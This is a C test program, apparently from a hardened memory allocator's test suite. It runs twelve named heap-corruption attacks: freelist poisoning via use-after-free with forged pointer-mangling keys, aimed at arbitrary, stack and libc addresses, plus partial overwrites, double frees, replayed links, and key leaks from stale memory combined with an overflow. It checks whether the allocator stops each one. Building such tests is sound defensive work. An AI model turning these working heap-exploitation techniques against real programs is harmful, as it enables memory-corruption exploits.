/* attack.c CASE - what an attacker gains that writes to freed objects, or reads old memory. attacks.py says how each
 * case must end: with verified links in a line and an abort, without them with the exit code that means "gained".
 *
 * Gained: malloc has returned an address of the attacker's choice, or one object twice.
 */
#include <stdint.h>
#include <stdlib.h>
#include <sys/resource.h>

#include "check.h"
#include "entry_points.h"

enum { GAINED = 40, SMALL = 64, MID = 3000, OBJECTS = 4, TRIES = 1000 };

static _Alignas(4096) char victim[8192]; /* stands for any data of the program */
static void *objects[OBJECTS];
static uint64_t *one, *two; /* the freed objects: `two` links to `one` */

static void *object(size_t size) {
    char *bytes = malloc(size);
    CHECK(bytes != NULL);
    memset(bytes, 0x5a, size);
    return bytes;
}

static uintptr_t number(const void *address) {
    return (uintptr_t)address;
}

static void free_two(size_t size) {
    for (int i = 0; i < OBJECTS; i++) objects[i] = object(size);
    one = objects[1];
    two = objects[2];
    free(one);
    free(two);
}

/* What a link is masked with, by an attacker that knows both addresses and reads one link. The two forms of links. */
static uint64_t key_of_read_link(void) {
    return UNVERIFIED_LINKS ? *two ^ number(one) : *two ^ number(one) ^ number(two);
}

static uint64_t forged(const void *place, const void *target, uint64_t key) {
    return key ^ number(target) ^ (UNVERIFIED_LINKS ? 0 : number(place));
}

static int by_address(const void *left, const void *right) {
    uintptr_t a = number(*(void *const *)left), b = number(*(void *const *)right);
    return (a > b) - (a < b);
}

/* Allocates. Each object is written to, as programs do. */
static void allocate_again(size_t size, const void *target) {
    static void *given[TRIES];
    for (int i = 0; i < TRIES; i++) {
        given[i] = malloc(size);
        if (target != NULL && given[i] == target) _exit(GAINED);
        for (int j = 0; j < i; j++)
            if (number(given[i]) - number(given[j]) < size || number(given[j]) - number(given[i]) < size) _exit(GAINED);
        CHECK(given[i] != NULL);
        if (size > sizeof(uint64_t)) memset((char *)given[i] + sizeof(uint64_t), 0x41, size - sizeof(uint64_t));
    }
}

/* Use after free: read and write of one word. */
static void lead_to(size_t size, const void *target) {
    free_two(size);
    *two = forged(two, target, key_of_read_link());
    allocate_again(size, target);
}
static void arbitrary_address(void) {
    lead_to(SMALL, victim + 4096);
}
static void stack_address(void) {
    _Alignas(64) char bytes[128] = {0};
    lead_to(SMALL, bytes);
}
static void libc_address(void) {
    lead_to(SMALL, (const void *)(number(&stderr) & ~(uintptr_t)15)); // NOLINT(performance-no-int-to-ptr)
}
static void arbitrary_address_mid(void) {
    lead_to(MID, victim + 4096);
}

/* Another object of the program: two live objects overlap. */
static void live_object(void) {
    char *live = object(2 * SMALL);
    lead_to(SMALL, live);
}

/* The middle of the next object. Only the lowest byte changes, without a key. */
static void lowest_byte(void) {
    free_two(SMALL);
    memset(one, 0x5a, SMALL);
    *(uint8_t *)two ^= 16;
    allocate_again(SMALL, NULL);
}

/* Blind: no key, no address. */
static void copied_link(size_t size) {
    free_two(size);
    *one = *two;
    allocate_again(size, NULL);
}
static void copied_link_small(void) {
    copied_link(SMALL);
}
static void copied_link_mid(void) {
    copied_link(MID);
}

/* The same object twice: the word that told that it is free is cleared. */
static void same_object_twice(size_t size) {
    free_two(size);
    memset(two, 0, 16);
    free(two);
    allocate_again(size, NULL);
}
static void same_object_twice_small(void) {
    same_object_twice(SMALL);
}
static void same_object_twice_mid(void) {
    same_object_twice(MID);
}

/* A link that was read earlier, when the list was another one, comes back. */
static void replayed_link(void) {
    free_two(SMALL);
    uint64_t old = *one;
    void *first = malloc(SMALL), *second = malloc(SMALL);
    CHECK(first == two && second == one);
    free(one);
    free(two);
    for (int i = 0; i < OBJECTS; i++) CHECK((objects[i] = malloc(SMALL)) != NULL);
    free(one);
    *one = old;
    allocate_again(SMALL, objects[2]); /* where the old link leads: now in use */
}

/* The key, from an old link to the next place that an object of this size holds; 0: there is none. */
static uint64_t key_in_old_memory(size_t size, size_t class) {
    for (int i = 0; i < 64; i++) {
        const char *leak = malloc(size);
        for (size_t at = 0; at + 8 <= size; at += 8) {
            uint64_t word = *(const volatile uint64_t *)(leak + at);
            uintptr_t place = number(leak) + at;
            if (word >> 48 != 0xffff || place % class) continue;
            return UNVERIFIED_LINKS ? word ^ (place + class) : word ^ place ^ (place + class);
        }
    }
    return 0;
}

/* No use after free: an object that was never written holds old links of another class, from which the key follows;
 * then an overflow of 8 bytes. */
static void old_links_and_overflow(void) {
    enum { OLD = 512, CLASS = 16, MANY = 4096 };
    static void *fill[MANY];
    for (int i = 0; i < MANY; i++) fill[i] = object(CLASS);
    for (int i = MANY - 1; i >= 0; i--) free(fill[i]);
    uint64_t key = key_in_old_memory(OLD, CLASS);
    if (!key) key = key_in_old_memory(MID, CLASS);
    if (!key) {
        malloc_trim(0);
        key = key_in_old_memory(100000, CLASS);
    }
    if (!key) _exit(0);
    /* neighbours by address; the one behind is freed, and the one before overflows into its link */
    for (int i = 0; i < OBJECTS; i++) objects[i] = object(OLD);
    qsort(objects, OBJECTS, sizeof *objects, by_address);
    for (int i = 0; i + 1 < OBJECTS; i++) {
        if (number(objects[i + 1]) - number(objects[i]) != OLD) continue;
        free(objects[i + 1]);
        uint64_t link = forged(objects[i + 1], victim + 4096, key);
        memcpy((char *)objects[i] + OLD, &link, sizeof link);
        allocate_again(OLD, victim + 4096);
    }
}

static const struct {
    const char *name;
    void (*run)(void);
} attacks[] = {
    {"arbitrary_address", arbitrary_address},
    {"stack_address", stack_address},
    {"libc_address", libc_address},
    {"arbitrary_address_mid", arbitrary_address_mid},
    {"live_object", live_object},
    {"lowest_byte", lowest_byte},
    {"copied_link_small", copied_link_small},
    {"copied_link_mid", copied_link_mid},
    {"same_object_twice_small", same_object_twice_small},
    {"same_object_twice_mid", same_object_twice_mid},
    {"replayed_link", replayed_link},
    {"old_links_and_overflow", old_links_and_overflow},
};

int main(int count, char **arguments) {
    setrlimit(RLIMIT_CORE, &(struct rlimit){0, 0});
    for (size_t i = 0; count > 1 && i < sizeof attacks / sizeof *attacks; i++) {
        if (strcmp(arguments[1], attacks[i].name) != 0) continue;
        attacks[i].run();
        return 0;
    }
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++) puts(attacks[i].name);
    return count > 1;
}
